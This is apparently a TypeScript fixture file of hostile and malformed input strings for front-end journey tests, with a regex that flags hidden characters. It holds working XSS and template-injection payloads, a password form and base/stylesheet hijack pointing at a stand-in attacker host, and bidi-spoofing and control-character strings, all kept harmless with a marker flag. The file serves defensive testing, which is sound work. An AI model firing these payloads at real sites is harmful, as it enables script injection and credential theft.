// What a hostile or merely odd hand types: markup, scripts, templates, marks that turn, hide or flood. Data for journeys, no test.

const flood = (letter: string, mark: string, count: number) => letter + mark.repeat(count);

/** Each at most 1,000 characters. Whatever of it ran would set `window.owned` or put `#planted` on the page. */
export const CORPUS: readonly string[] = [
  '<script>window.owned=1</script>',
  '<img id=planted src=x onerror="window.owned=1">',
  '<svg id=planted onload=window.owned=1><animate onbegin=window.owned=1 attributeName=x dur=1s>',
  '"><iframe id=planted srcdoc="<script>parent.owned=1</script>"></iframe>',
  '</textarea></li></p></bdi><h1 id=planted>Team</h1><style>*{display:none}</style>',
  '<a id=planted href="javascript:window.owned=1">press here</a>',
  'javascript:window.owned=1 https://evil.example/?q=<b>',
  '<form id=planted action=//evil.example><input name=password></form>',
  '<base href=//evil.example/><link rel=stylesheet href=//evil.example/a.css>',
  '<math><mtext><table><mglyph><style><!--</style><img id=planted src=x onerror=window.owned=1>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one
  '{{constructor.constructor("window.owned=1")()}} ${window.owned=1} <%= 7*7 %> #{7*7} [[${7*7}]]',
  '{"t":"ended"}\n{"t":"entries","entries":[]}',
  '**bold** [x](javascript:window.owned=1) ![](//evil.example/x.png) &lt;b&gt; &#60;b&#62;',
  '__proto__ constructor toString',
  'safe \u202Egnp.exe\u202C end',
  '\u2066isolate \u2067turned\u2069 \u200Fright\u200E left \u061C',
  'in\u200Bvis\u2060ible\uFEFF \u00ADsoft \u034Fglue \u3164filler \u2800 blank',
  'n\u200Do n\u200Cot',
  'nul\u0000 bell\u0007 esc\u001B[31mred back\u0008 del\u007F c1\u009B',
  'tags \u{E0041}\u{E0042}\u{E007F}',
  flood('Z', '\u0300\u0316', 400),
  `${flood('H', '\u0489', 200)} over the line`,
  'W'.repeat(1_000),
  '𒐫'.repeat(60),
  `${'\n'.repeat(20)}far down`,
  '👩‍👩‍👧‍👦🏴‍☠️ ❤️ 🇩🇪',
  'שלום עולם مرحبا بالعالم नमस्ते',
];

/** Signs that must never stand on a console as they came. */
export const HIDDEN = /[^\P{Cc}\t\n]|(?!\u200C|\u200D|\uFE0F)\p{Default_Ignorable_Code_Point}|[\p{Bidi_Control}\u2800\u2028\u2029]/u;
